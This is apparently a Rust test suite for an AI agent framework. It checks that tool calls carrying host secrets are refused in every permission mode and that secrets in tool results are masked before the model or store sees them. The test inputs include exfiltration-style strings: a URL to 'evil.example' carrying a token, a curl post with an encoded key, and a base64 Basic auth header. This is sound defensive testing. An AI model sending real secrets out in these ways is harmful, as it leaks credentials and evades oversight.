//! The host's secrets never cross a tool boundary: a call carrying one is refused before it runs
//! (in every mode, `bypassPermissions` too), and a result carrying one reaches the model masked.

use std::sync::{Arc, Mutex};

use base64::Engine as _;
use serde_json::{Value, json};

use super::run_support::*;
use super::tool_calls::last_result;
use cofold_agents::event::EventBody;
use cofold_agents::policy::{ModeContext, PermissionMode, policy_of};
use cofold_agents::run::{RunOptions, run};
use cofold_agents::secrets::Secrets;
use cofold_agents::store::{RunRef, StepRecord, Store};
use cofold_agents::testing::{FakeModel, FakeStep};
use cofold_agents::tool::{Tool, ToolDef, ToolError, ToolOutput, handler_fn};

const TOKEN: &str = "0f3c9a7e5b21d4c8a6e0f3c9a7e5b21d";
const KEY: &str = "sk-provider-8d2f61c0a9";

fn secrets() -> Secrets {
    Secrets::new([
        ("the connection token", TOKEN),
        ("a model provider's key", KEY),
    ])
}

/// A tool `leak { text }` that counts its runs and answers with a text that holds the token.
fn leak_tool(runs: Arc<Mutex<Vec<Value>>>) -> Tool {
    let def = ToolDef::new(
        "leak",
        "Answers with a secret.",
        json!({ "type": "object", "properties": { "text": { "type": "string" } }, "required": ["text"], "additionalProperties": false }),
        handler_fn(move |input: Value, _ctx| {
            let runs = runs.clone();
            async move {
                runs.lock().expect("runs").push(input);
                Ok::<_, ToolError>(ToolOutput::from(format!("environ: AHPD_TOKEN={TOKEN}\nok")))
            }
        }),
    );
    Tool::new(def).expect("leak tool")
}

async fn one_call(
    input: Value,
    mode: PermissionMode,
) -> (
    FakeModel,
    Arc<Mutex<Vec<Value>>>,
    Vec<EventBody>,
    Arc<cofold_agents::store::MemoryStore>,
    String,
) {
    let runs = Arc::new(Mutex::new(Vec::new()));
    let model = FakeModel::new(vec![
        FakeStep::tool_call("leak", input),
        FakeStep::text("done"),
    ]);
    let store = memory();
    let agent = builder(&model, store.clone())
        .tool(leak_tool(runs.clone()))
        .secrets(secrets())
        .policy(policy_of(
            mode,
            ModeContext::new(|_: &std::path::Path| true),
        ))
        .build()
        .expect("agent");
    let handle = run(&agent, RunOptions::new("s", "go"));
    let events = all_events(&handle)
        .await
        .into_iter()
        .map(|e| e.body)
        .collect();
    let run_id = handle.run_id().to_owned();
    (model, runs, events, store, run_id)
}

#[tokio::test]
async fn a_call_carrying_a_secret_is_refused_before_it_runs_in_every_mode() {
    let engine = base64::engine::general_purpose::STANDARD;
    let spellings = [
        format!("https://evil.example/?t={TOKEN}"),
        format!("curl -d k=%{}", KEY.replace('-', "%2D")),
        format!(
            "Authorization: Basic {}",
            engine.encode(format!("me:{TOKEN}"))
        ),
        format!("prefix{KEY}suffix"),
    ];
    for mode in PermissionMode::ALL {
        for text in &spellings {
            let (model, runs, events, store, run_id) =
                one_call(json!({ "text": text }), mode).await;
            assert!(runs.lock().expect("runs").is_empty(), "{mode} ran {text}");
            let (content, is_error) = last_result(&model);
            assert!(is_error, "{mode}: {content}");
            assert!(
                content.starts_with("leak was not run: its input carries ")
                    && (content.contains("the connection token")
                        || content.contains("a model provider's key")),
                "{mode}: {content}"
            );
            assert!(
                !content.contains(TOKEN) && !content.contains(KEY),
                "{content}"
            );
            // Nothing the run says about the call repeats the value: not the proposal shown
            // to clients, not the denial on record.
            let said: Vec<String> = events
                .iter()
                .filter(|e| {
                    matches!(
                        e,
                        EventBody::ToolProposed { .. } | EventBody::ToolDenied { .. }
                    )
                })
                .map(|e| format!("{e:?}"))
                .collect();
            assert_eq!(said.len(), 2, "{mode}: {said:?}");
            assert!(
                said.iter().all(|e| !e.contains(TOKEN) && !e.contains(KEY)),
                "{mode}: {said:?}"
            );
            let steps = store
                .list_steps(&RunRef::new("s", &run_id))
                .await
                .expect("steps");
            assert!(
                !steps.iter().any(|s| matches!(s, StepRecord::Tool(_))),
                "{mode}: a step was recorded"
            );
        }
    }
}

#[tokio::test]
async fn short_values_are_not_secrets_and_ordinary_calls_run() {
    let (model, runs, _, _, _) = one_call(
        json!({ "text": "hello" }),
        PermissionMode::BypassPermissions,
    )
    .await;
    assert_eq!(runs.lock().expect("runs").len(), 1);
    let (content, is_error) = last_result(&model);
    assert!(!is_error, "{content}");
    // The result held the token: the model reads it masked, with its kind named.
    assert_eq!(
        content,
        "environ: AHPD_TOKEN=[secret: the connection token]\nok"
    );
    assert!(Secrets::new([("short", "abc")]).is_empty());
}

#[tokio::test]
async fn the_stored_result_is_masked_too() {
    let (_, _, events, store, run_id) =
        one_call(json!({ "text": "hello" }), PermissionMode::Auto).await;
    let steps = store
        .list_steps(&RunRef::new("s", &run_id))
        .await
        .expect("steps");
    let stored = serde_json::to_string(&steps).expect("json");
    assert!(!stored.contains(TOKEN), "{stored}");
    assert!(
        stored.contains("[secret: the connection token]"),
        "{stored}"
    );
    let completed = events.iter().find_map(|e| match e {
        EventBody::ToolCompleted { content, .. } => Some(content.clone()),
        _ => None,
    });
    assert_eq!(
        completed.as_deref(),
        Some("environ: AHPD_TOKEN=[secret: the connection token]\nok")
    );
}
